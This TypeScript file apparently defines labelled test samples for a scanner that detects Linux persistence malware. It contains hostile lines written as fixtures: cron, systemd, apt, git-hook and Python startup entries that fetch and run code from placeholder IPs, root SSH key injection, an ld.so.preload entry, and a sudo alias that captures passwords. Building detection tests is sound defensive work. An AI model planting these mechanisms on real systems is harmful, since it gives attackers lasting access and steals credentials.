import { base64 } from './bytes.ts';
import { program } from './program.ts';
import { ofFamily } from './sample.ts';

export const samples = ofFamily('persistence', [
  {
    id: 'persistence-cron-curl',
    level: 'easy',
    technique: 'A cron job that fetches itself again every few minutes (Kinsing, Rocke; T1053.003).',
    files: {
      'etc/cron.d/root':
        '*/5 * * * * root (curl -fsSL http://192.0.2.66/r || wget -q -O- http://192.0.2.66/r) | bash\n',
    },
    expect: 'malicious',
    where: 'etc/cron.d/root',
  },
  {
    id: 'persistence-crontab-rewrite',
    level: 'ordinary',
    technique:
      'The crontab is emptied and rewritten by a pipe, then made immutable (WatchDog; T1053.003, T1222.002).',
    files: {
      'srv/setup.sh': `#!/bin/sh
crontab -r
(crontab -l 2>/dev/null; echo "@reboot sleep 60 && /usr/share/.x/run >/dev/null 2>&1") | crontab -
chattr +ia /var/spool/cron/crontabs/root
echo '${base64('*/10 * * * * root echo stand-in | sh')}' | base64 -d >> /etc/crontab
`,
    },
    expect: 'malicious',
    where: 'srv/setup.sh',
  },
  {
    id: 'persistence-systemd-unit',
    level: 'ordinary',
    technique: 'A unit under the name of a service of the system, restarted for ever (T1543.002).',
    files: {
      'etc/systemd/system/systemd-network-helper.service': `[Unit]
Description=Network Helper
[Service]
ExecStart=/bin/bash -c "curl -s http://198.51.100.70/s | bash"
Restart=always
RestartSec=30
[Install]
WantedBy=multi-user.target
`,
    },
    expect: 'malicious',
    where: 'etc/systemd/system/systemd-network-helper.service',
  },
  {
    id: 'persistence-authorized-keys',
    level: 'easy',
    technique: 'A key for root, in an image that runs sshd, added on the host by a mount (T1098.004).',
    files: {
      'docker-entrypoint.sh': `#!/bin/sh
mkdir -p /host/root/.ssh && chmod 700 /host/root/.ssh
echo "ssh-rsa ${'A'.repeat(120)} root@localhost" >> /host/root/.ssh/authorized_keys
sed -i 's/#\\?PermitRootLogin.*/PermitRootLogin yes/' /host/etc/ssh/sshd_config
`,
    },
    config: { Entrypoint: ['/docker-entrypoint.sh'] },
    expect: 'malicious',
    where: 'docker-entrypoint.sh',
  },
  {
    id: 'persistence-ld-preload-file',
    level: 'easy',
    technique: 'A library in every process, by /etc/ld.so.preload (T1574.006).',
    files: {
      'etc/ld.so.preload': '/usr/local/lib/libsystem.so\n',
      'usr/local/lib/libsystem.so': program(['readdir', 'readdir64', '/proc/self/fd/%d', 'hidden'], {
        type: 3,
      }),
    },
    expect: 'malicious',
    where: 'etc/ld.so.preload',
  },
  {
    id: 'persistence-profile',
    level: 'ordinary',
    technique: 'A shell profile starts the payload if it is not running (T1546.004).',
    files: {
      'etc/profile.d/colors.sh': `pgrep -f '[k]worker/R-gpu' >/dev/null || (
  setsid sh -c 'exec -a "[kworker/R-gpu]" /var/lib/.gpu/agent 203.0.113.9 443' >/dev/null 2>&1 &)
alias sudo='read -sp "[sudo] password for $USER: " p; echo $p >> /var/lib/.gpu/p; echo $p | sudo -S'
`,
    },
    expect: 'malicious',
    where: 'etc/profile.d/colors.sh',
  },
  {
    id: 'persistence-sitecustomize',
    level: 'ordinary',
    technique: 'Python runs sitecustomize at every start (T1546.018).',
    files: {
      'usr/lib/python3/dist-packages/sitecustomize.py': `import threading, urllib.request
def _w():
    try: exec(urllib.request.urlopen("http://192.0.2.99/u.py", timeout=3).read())
    except Exception: pass
threading.Thread(target=_w, daemon=True).start()
`,
    },
    expect: 'malicious',
    where: 'usr/lib/python3/dist-packages/sitecustomize.py',
  },
  {
    id: 'persistence-pth',
    level: 'hard',
    technique: 'A .pth file whose import line decodes and runs code (litellm-like, 2026; T1546.018).',
    files: {
      'usr/local/lib/python3.11/site-packages/distutils-hook.pth': `import base64;exec(base64.b64decode("${base64(
        'import os;os.system("echo stand-in | sh")',
      )}"))\n`,
    },
    expect: 'malicious',
    where: 'usr/local/lib/python3.11/site-packages/distutils-hook.pth',
  },
  {
    id: 'persistence-apt-hook',
    level: 'hard',
    technique: 'apt runs a command before each update (T1546.016).',
    files: {
      'etc/apt/apt.conf.d/01proxy':
        'APT::Update::Pre-Invoke {"nohup sh -c \'curl -s 198.51.100.5/a|sh\' >/dev/null 2>&1 &"};\n',
    },
    expect: 'malicious',
    where: 'etc/apt/apt.conf.d/01proxy',
  },
  {
    id: 'persistence-udev',
    level: 'hard',
    technique:
      'A udev rule starts a program as root with a device (sedexp, Stroz Friedberg 2024; T1546.017).',
    files: {
      'etc/udev/rules.d/99-gpu.rules':
        'ACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", RUN+="/bin/sh -c \'/usr/bin/.asedexpb run:+ &\'"\n',
    },
    expect: 'malicious',
    where: 'etc/udev/rules.d/99-gpu.rules',
  },
  {
    id: 'persistence-git-hook',
    level: 'hard',
    technique: 'Hooks of git run what a clone brought (T1546).',
    files: {
      'etc/gitconfig': '[core]\n\thooksPath = /usr/share/.git-hooks\n',
      'usr/share/.git-hooks/post-checkout':
        '#!/bin/sh\npython3 -c "import os;os.system(\'curl -s http://192.0.2.40/h|sh\')" &\n',
    },
    expect: 'malicious',
    where: 'usr/share/.git-hooks/post-checkout',
  },
]);
